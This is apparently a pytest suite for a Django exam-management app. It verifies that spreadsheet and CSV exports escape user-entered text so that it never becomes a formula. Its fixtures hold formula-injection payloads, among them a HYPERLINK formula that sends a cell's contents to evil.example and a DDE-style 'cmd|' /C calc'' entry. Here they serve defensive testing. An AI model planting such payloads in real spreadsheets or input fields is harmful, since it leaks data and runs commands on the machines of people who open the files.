"""Issue 10, item 8: no text from users becomes a formula in a generated spreadsheet.

Every export of every app is covered here (this suite holds the seated-candidates fixtures).

Each export is generated with hostile text in the fields users fill in, then read back:
in xlsx the cell is a text cell (openpyxl `data_type == "s"`) holding the literal text,
never a formula; in CSV the cell starts with an apostrophe. Numbers and dates stay
numbers and dates where the export means them to be.
"""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from apps.candidates.models import Candidate
from apps.candidates.services.columns import COLUMNS
from apps.candidates.services.importing import candidates_import
from apps.examday.models import Incident
from tests.factories import CandidateFactory, ExamFactory, PaperFactory
from tests.seating.conftest import EXAM_DAY
from utils.safe_cells import csv_cell, csv_uncell, new_workbook

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B5,"x")'
HOSTILE = [HYPERLINK, "=1+2*3", "@SUM(1+1)", "+1-1", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1"]


def cells(sheet):
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_text_cell(sheet, text):
    found = [c for c in cells(sheet) if c.value == text]
    assert found, f"{text!r} is not in {sheet.title}"
    for c in found:
        assert c.data_type == "s", (c.coordinate, c.data_type, c.value)


def assert_no_formula(book):
    for sheet in book.worksheets:
        formulas = [c.coordinate for c in cells(sheet) if c.data_type == "f"]
        assert formulas == [], f"formulas in {sheet.title}: {formulas}"


# --- xlsx exports -------------------------------------------------------------------------------


def test_center_report_xlsx_keeps_an_incident_description_as_text(client_for, cast, seated, session, center_a):
    candidate = seated["a"][0]
    Candidate.objects.filter(pk=candidate.pk).update(roll_number="=1+2*3")
    payload = {"session": str(session.id), "candidate": str(candidate.id), "kind": "other", "description": HYPERLINK}
    assert client_for(cast["invigilator_a"]).post("/api/incidents/", payload).status_code == 201
    assert Incident.objects.get().description == HYPERLINK

    url = f"/api/centers/{center_a.id}/report/"
    response = client_for(cast["admin"]).get(url, {"date": EXAM_DAY.isoformat(), "format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert_no_formula(book)
    assert_text_cell(book["Incidents"], HYPERLINK)
    assert_text_cell(book["Incidents"], "=1+2*3")
    allocated = book["Attendance"]["F6"]
    assert allocated.value == 4 and allocated.data_type == "n"  # counts stay numbers


def test_attendance_sheet_xlsx_keeps_a_candidate_name_as_text(client_for, exam_manager, seated, session, center_a):
    for candidate, name in zip(seated["a"], HOSTILE, strict=False):
        Candidate.objects.filter(pk=candidate.pk).update(name=name)
    response = client_for(exam_manager).get(
        f"/api/sessions/{session.id}/attendance-sheet/", {"center": str(center_a.id), "format": "xlsx"}
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert_no_formula(book)
    for name in HOSTILE[:4]:
        assert_text_cell(book.active, name)
    seat = book.active["B5"]
    assert isinstance(seat.value, int) and seat.data_type == "n"  # seat numbers stay numbers


def test_schedule_export_keeps_exam_text_as_text(client_for, exam_manager):
    PaperFactory(exam=ExamFactory(code="SAFE1", name="@SUM(1+1)", description=HYPERLINK), code="P1", name="=1+2*3")
    response = client_for(exam_manager).get("/api/exams/export/")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert_no_formula(book)
    assert_text_cell(book["Exams"], HYPERLINK)
    assert_text_cell(book["Exams"], "@SUM(1+1)")
    assert_text_cell(book["Papers"], "=1+2*3")
    max_marks = book["Papers"]["E2"]
    assert isinstance(max_marks.value, int | float) and max_marks.data_type == "n"


def test_schedule_export_command_writes_the_same_safe_file(tmp_path):
    ExamFactory(code="SAFE2", description="=1+2*3")
    output = tmp_path / "schedule.xlsx"
    call_command("export_schedule", "--output", str(output))
    book = load_workbook(output)
    assert_no_formula(book)
    assert_text_cell(book["Exams"], "=1+2*3")


# --- candidates: xlsx and CSV, and back ----------------------------------------------------------


@pytest.fixture
def hostile_candidates(db):
    target = ExamFactory(code="EXAM2026")
    for i, text in enumerate(HOSTILE):
        CandidateFactory(
            exam=target,
            roll_number=f"EXAM2026{i + 1:06d}",
            name=text if text[0] not in "\t\r" else f"Name{text}",
            father_name="@SUM(1+1)",
            address=HYPERLINK,
            city="+Delhi",
            preferred_cities=["=Pune", "Nagpur"],
            extra_time_minutes=20,
        )
    CandidateFactory(exam=target, roll_number="EXAM2026000099", name="'=quoted", father_name="'plain", address="-")
    return target


def exported(tmp_path, file_format) -> Path:
    output = tmp_path / f"out.{file_format}"
    call_command("export_candidates", "--exam", "EXAM2026", "--format", file_format, "--output", str(output))
    return output


def test_candidates_xlsx_export_writes_text_cells_and_keeps_types(hostile_candidates, tmp_path):
    book = load_workbook(exported(tmp_path, "xlsx"))
    sheet = book.active
    assert_no_formula(book)
    for text in ["=1+2*3", "@SUM(1+1)", "+1-1", HYPERLINK, "+Delhi", "=Pune; Nagpur", "'=quoted", "-"]:
        assert_text_cell(sheet, text)
    header = [c.value for c in sheet[1]]
    row = {name: sheet.cell(2, header.index(name) + 1) for name in COLUMNS}
    assert isinstance(row["date_of_birth"].value, dt.datetime)  # a real date cell
    assert row["extra_time_minutes"].value == 20 and row["extra_time_minutes"].data_type == "n"


def test_candidates_csv_export_escapes_formula_text(hostile_candidates, tmp_path):
    with exported(tmp_path, "csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_roll = {r["roll_number"]: r for r in rows}
    first = by_roll["EXAM2026000001"]
    assert first["name"] == "'" + HYPERLINK
    assert first["father_name"] == "'@SUM(1+1)" and first["city"] == "'+Delhi"
    assert first["preferred_cities"] == "'=Pune; Nagpur"
    assert by_roll["EXAM2026000005"]["name"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_roll["EXAM2026000099"]["name"] == "''=quoted"  # so that importing gives it back
    assert by_roll["EXAM2026000099"]["father_name"] == "'plain"  # nothing to escape
    # Dates and numbers are not touched.
    assert first["date_of_birth"] == "2000-05-17" and first["extra_time_minutes"] == "20"
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_exported_candidates_import_back_to_the_same_text(hostile_candidates, tmp_path, file_format):
    fields = ["roll_number", "name", "father_name", "address", "city", "preferred_cities", "extra_time_minutes"]
    before = list(Candidate.objects.order_by("roll_number").values_list(*fields))
    output = exported(tmp_path, file_format)
    Candidate.objects.all().delete()
    report = candidates_import(source=output)
    assert (report.created, report.rejected) == (len(before), 0), report.errors
    assert list(Candidate.objects.order_by("roll_number").values_list(*fields)) == before


def test_import_error_report_csv_escapes_the_values_it_quotes(db, tmp_path):
    ExamFactory(code="EXAM2026")
    source = tmp_path / "in.csv"
    source.write_text(
        "name,father_name,date_of_birth,gender,category,phone\n"
        "Asha,Ramesh,2001-04-12,=1+2*3,GEN,9876543210\n"
        '"@SUM(1+1)",Ramesh,2001-04-12,F,GEN,-1\n',
        encoding="utf-8",
    )
    errors = tmp_path / "errors.csv"
    with pytest.raises(CommandError, match="Nothing was imported"):
        call_command("bulk_import_candidates", "--file", str(source), "--exam", "EXAM2026", "--errors-out", str(errors))
    with errors.open(newline="") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    assert values == ["'=1+2*3", "'-1"]


# --- the helpers -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2*3", "'=1+2*3"),
        ("+91 98", "'+91 98"),
        ("-5", "'-5"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''", "'''"),
        ("'abc", "'abc"),
        ("O'Brien", "O'Brien"),
        ("Asha", "Asha"),
        ("", ""),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_csv_cell_follows_the_owasp_rule_and_round_trips(value, written):
    assert csv_cell(value) == written
    if isinstance(value, str):
        assert csv_uncell(written) == value


def test_a_workbook_cannot_be_made_to_turn_text_into_formulas():
    for option in ("strings_to_formulas", "strings_to_urls", "strings_to_numbers"):
        with pytest.raises(ValueError, match=option):
            new_workbook(io.BytesIO(), {option: True})
    buffer = io.BytesIO()
    book = new_workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["=1+2*3", "http://evil.example/", "12", 12])
    sheet.write_formula(1, 0, "=A1")  # a formula written on purpose still works
    book.close()
    read = load_workbook(buffer).active
    assert [(c.value, c.data_type) for c in read[1]] == [
        ("=1+2*3", "s"),
        ("http://evil.example/", "s"),
        ("12", "s"),
        (12, "n"),
    ]
    assert read["A1"].hyperlink is None and read["A2"].data_type == "f"


def test_every_writer_in_the_apps_goes_through_the_safe_helpers():
    """Exports still to come too: a spreadsheet or CSV writer made anywhere in apps/ other
    than through utils.safe_cells fails this test."""
    direct = re.compile(r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|\bWorkbook\(\)|csv\.writer\(|csv\.DictWriter\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for path in sorted((ROOT / "apps").rglob("*.py"))
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if direct.search(line)
    ]
    assert offenders == []
